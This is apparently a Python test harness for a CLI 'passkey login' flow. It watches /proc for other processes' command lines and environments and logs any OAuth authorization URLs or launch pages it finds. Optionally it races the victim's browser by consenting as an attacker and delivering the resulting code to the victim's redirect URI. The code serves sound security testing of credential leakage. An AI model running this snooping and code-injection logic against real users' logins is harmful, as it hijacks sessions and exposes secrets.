#!/usr/bin/env python3
"""Watches every process's command line (and environment, where readable)
for the login tests: what another local user sees of a `passkey login`, and
what it can do with it.

  proc_watcher.py --out DIR [--launch-dir DIR] [--attack USER] [--only ORIGIN]...

Each full pass over /proc appends every command line and environment not
seen before to DIR/seen.txt (NUL bytes as spaces, one per line) and then
writes the number of passes to DIR/scans (the stand-in browser waits for it
to move on, so the race is run at its most favourable to the watcher).

DIR/events.txt gets one line per finding:
  url PID TEXT          an OAuth authorization request (`state=` and
                        `redirect_uri=` in one query) on a process's argv or
                        environment
  launch PATH RESULT    a launch page named on a command line, and what
                        opening it gave (`read` with its length, or the error)
  listdir DIR RESULT    listing the launch directory (--launch-dir)
  attack RESULT         with --attack USER, for each authorization request
                        seen: signed in at the provider as USER with it (the
                        victim's state, nonce and PKCE challenge) and handed
                        the code to the victim's redirect URI first

With --only (any number of times), authorization requests of other origins
(`http://HOST:PORT`) are ignored, and with --launch-dir, launch pages
elsewhere: the tests run in parallel, and another test's login is not this
test's victim (attacking it would break that test, and count here).

It runs until SIGTERM.
"""
import html
import os
import signal
import sys
import urllib.error
import urllib.parse
import urllib.request


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


opener = urllib.request.build_opener(NoRedirect)


def fetch(url, data=None):
    body = urllib.parse.urlencode(data).encode() if data is not None else None
    try:
        with opener.open(urllib.request.Request(url, data=body), timeout=15) as response:
            return response.status, response.headers
    except urllib.error.HTTPError as error:
        return error.code, error.headers


def attack(url, user):
    """What mallory does with a login's authorization request: consent as
    herself, then deliver the code to the victim's listener before the
    victim's browser does."""
    try:
        status, _ = fetch(url)
        status, headers = fetch(url, {"user": user, "action": "allow"})
        location = headers.get("Location") if headers else None
        if not location:
            return f"no redirect (HTTP {status})"
        status, _ = fetch(urllib.parse.urljoin(url, location))
        return f"delivered the code as {user}: HTTP {status}"
    except Exception as error:  # the attacker shrugs and tries again later
        return f"failed: {error!r}"


def authorization_requests(text):
    for word in text.replace("\0", " ").split():
        start = word.find("http")
        if start < 0:
            continue
        candidate = word[start:]
        try:
            query = urllib.parse.urlsplit(candidate).query
        except ValueError:
            # Another test's hostile URL (an unclosed "[" host, say) on some
            # process's command line: not an authorization request.
            continue
        fields = urllib.parse.parse_qs(query)
        if "state" in fields:
            yield candidate, "redirect_uri" in fields


def launch_pages(text):
    for word in text.replace("\0", " ").split():
        if "launch-" in word and word.endswith(".html"):
            path = urllib.parse.unquote(word[len("file://"):]) if word.startswith("file://") else word
            yield path


def main():
    args = sys.argv[1:]
    out = args[args.index("--out") + 1]
    launch_dir = args[args.index("--launch-dir") + 1] if "--launch-dir" in args else None
    user = args[args.index("--attack") + 1] if "--attack" in args else None
    origins = [args[i + 1] for i, arg in enumerate(args) if arg == "--only"]

    def ours(url):
        return not origins or any(url == o or url.startswith(o + "/") for o in origins)
    me = os.getpid()
    seen = set()
    urls = set()
    results = set()
    attacked = set()
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(True))
    seen_file = open(os.path.join(out, "seen.txt"), "a")
    events = open(os.path.join(out, "events.txt"), "a")

    def event(line):
        events.write(line + "\n")
        events.flush()

    scans = 0
    while not stop:
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or int(pid) == me:
                continue
            for name in ("cmdline", "environ"):
                try:
                    with open(f"/proc/{pid}/{name}", "rb") as f:
                        text = f.read().decode(errors="replace")
                except OSError:
                    continue
                if not text or text in seen:
                    continue
                seen.add(text)
                seen_file.write(text.replace("\0", " ").replace("\n", " ") + "\n")
                seen_file.flush()
                for url, complete in authorization_requests(text):
                    if not ours(url):
                        continue
                    if url not in urls:
                        urls.add(url)
                        event(f"url {pid} {url}")
                    if complete and user and url not in attacked:
                        attacked.add(url)
                        event("attack " + attack(url, user))
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    text = f.read().decode(errors="replace")
            except OSError:
                continue
            for path in launch_pages(text):
                if launch_dir and not path.startswith(launch_dir + "/"):
                    continue
                try:
                    with open(path, "rb") as page:
                        content = html.unescape(page.read().decode(errors="replace"))
                    result = f"read {len(content)}"
                    for url, complete in authorization_requests(content.replace('"', " ").replace("url=", " ")):
                        if url not in urls:
                            urls.add(url)
                            event(f"url page {url}")
                        if complete and user and url not in attacked:
                            attacked.add(url)
                            event("attack " + attack(url, user))
                except OSError as error:
                    result = type(error).__name__
                if (path, result) not in results:
                    results.add((path, result))
                    event(f"launch {path} {result}")
        if launch_dir:
            try:
                result = "listed " + " ".join(sorted(os.listdir(launch_dir)))
            except OSError as error:
                result = type(error).__name__
            if (launch_dir, result) not in results:
                results.add((launch_dir, result))
                event(f"listdir {launch_dir} {result}")
        scans += 1
        temporary = os.path.join(out, "scans.tmp")
        with open(temporary, "w") as f:
            f.write(str(scans))
        os.replace(temporary, os.path.join(out, "scans"))


main()
